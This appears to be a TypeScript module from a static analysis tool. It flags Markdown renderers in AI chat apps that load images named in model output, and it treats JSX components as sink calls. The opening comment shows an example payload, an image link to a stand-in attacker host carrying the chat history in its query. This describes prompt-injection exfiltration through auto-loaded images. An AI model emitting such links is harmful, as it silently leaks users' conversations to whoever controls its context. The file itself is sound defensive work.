// Markdown renderers that load the images their text names (react-markdown, Streamdown, marked,
// markdown-it, ...): model text rendered by one lets whoever wrote the model's context choose URLs
// the user's browser requests with no click (`![](https://evil.example/?q=<chat history>)`). Such a
// renderer is a `markdown` sink (a `sink` row with `images` options); this module decides whether a
// given call or element leaves image URLs to the text, and treats a package component written as a
// JSX element as the call React makes of it: `<Markdown>{text}</Markdown>` is `Markdown({ children: text })`.
import type { TSESTree } from "@typescript-eslint/typescript-estree";
import type { Evaluator, Frame } from "./evaluator";
import { forEachChild } from "../ast-children";
import { source } from "./expressions";
import { argAt } from "./model-rows";
import { checkSink } from "./sinks";
import type { Node } from "./syntax";
import type { ModelRow } from "../model";
import { Taint } from "../types";
import { CLEAN, flatten, isTainted, join, type Val } from "../value";

type SinkRow = Extract<ModelRow, { kind: "sink" }>;

/**
 * An option given restricts image URLs unless it is an allow-list holding "*" (Streamdown's
 * default), or an `img` override that renders the `<img>` it was given (`{...props}`, `src={src}`)
 * with no condition anywhere in it: a restyled image still loads from any host.
 */
function restricts(v: Val): boolean {
  if (flatten(v).str === "*" || v.elems?.some((e) => flatten(e).str === "*")) return false;
  return !(v.fn && passesImageThrough(v.fn.node));
}

function passesImageThrough(fn: Node): boolean {
  let img = false;
  let condition = false;
  const visit = (n: Node): void => {
    if (n.type === "IfStatement" || n.type === "ConditionalExpression" || n.type === "LogicalExpression" || n.type === "SwitchStatement") condition = true;
    if (n.type === "JSXOpeningElement" && n.name.type === "JSXIdentifier" && n.name.name === "img") {
      img ||= n.attributes.some((a) => a.type === "JSXSpreadAttribute" || (a.name.type === "JSXIdentifier" && a.name.name === "src" && a.value?.type === "JSXExpressionContainer" && /(^|\.)src$/.test(exprName(a.value.expression))));
    }
    forEachChild(n, visit);
  };
  visit(fn);
  return img && !condition;
}

function exprName(e: Node): string {
  if (e.type === "Identifier") return e.name;
  if (e.type === "MemberExpression" && e.property.type === "Identifier") return `${exprName(e.object)}.${e.property.name}`;
  return "";
}

/** Whether the row's options (`args`, read by argument path) leave image URLs to the rendered text. */
export function loadsRemoteImages(ev: Evaluator, row: SinkRow, args: Val[], argNodes: readonly Node[]): boolean {
  const images = row.images;
  if (!images) return true;
  for (const g of images.guards ?? []) {
    const at = argAt(ev, args, argNodes, g);
    if (at && restricts(at.val)) return false;
  }
  if (images.disallowed) {
    const list = argAt(ev, args, argNodes, images.disallowed)?.val.elems;
    if (list?.some((e) => flatten(e).str === "img")) return false;
  }
  if (images.allowed) {
    const list = argAt(ev, args, argNodes, images.allowed)?.val.elems;
    // Only a list read element by element: an unknown one may well hold "img".
    if (list && list.every((e) => flatten(e).str !== undefined) && !list.some((e) => flatten(e).str === "img")) return false;
  }
  return true;
}

/**
 * A JSX element naming a package component with `markdown` sink rows (`<ReactMarkdown>`, `<Streamdown>`):
 * its props (children included) are the call's first argument. A bare `<img src={url}>` is not a sink:
 * in AI SDK apps its URL is a message file part's (the provider's generated image as a data: URL, the
 * user's attachment), which the engine cannot tell from a URL the model wrote.
 */
export function renderedElement(ev: Evaluator, el: TSESTree.JSXElement, props: Map<string, Val>, propNodes: Map<string, Node>, children: { val: Val; node: Node }[], spreads: Val[], frame: Frame): void {
  const open = el.openingElement;
  if (open.name.type !== "JSXIdentifier") return;
  const name = open.name.name;
  if (!/^[A-Z]/.test(name)) return;
  const b = frame.scope.lookup(name);
  const ref = b ? ev.readBinding(b, frame, null).ref : undefined;
  if (!ref) return;
  const rows = ev.models.find(ref, "sink").filter((r) => r.sink === "markdown");
  if (!rows.length) return;
  const fields = new Map(props);
  const tainted = children.filter((c) => isTainted(c.val));
  if (children.length && !fields.has("children")) fields.set("children", children.reduce((m, c) => join(m, c.val), CLEAN));
  // `<Streamdown {...props} />` in a wrapper component: the spread object's fields, or (a rest
  // parameter whose fields are not known one by one) the whole object, may hold the text.
  for (const sv of spreads) {
    if (sv.fields) { for (const [k, v] of sv.fields) if (!fields.has(k)) fields.set(k, v); }
    else if (isTainted(flatten(sv))) fields.set("children", join(fields.get("children") ?? CLEAN, sv));
  }
  const args = [{ ...CLEAN, fields }];
  for (const row of rows) {
    const field = row.arg.split(".")[1];
    const v = row.renders ? source(ev, Taint.Model, open, `the current message (model output) that \`<${name}>\` reads from its runtime`) : field ? fields.get(field) : undefined;
    if (!v || !isTainted(flatten(v)) || !loadsRemoteImages(ev, row, args, [])) continue;
    const node = (field === "children" && !propNodes.has("children") ? tainted[0]?.node : propNodes.get(field!)) ?? open;
    checkSink(ev, v, "markdown", node, frame, { api: `<${name}>`, container: { start: el.range[0], end: el.range[1] } });
  }
}
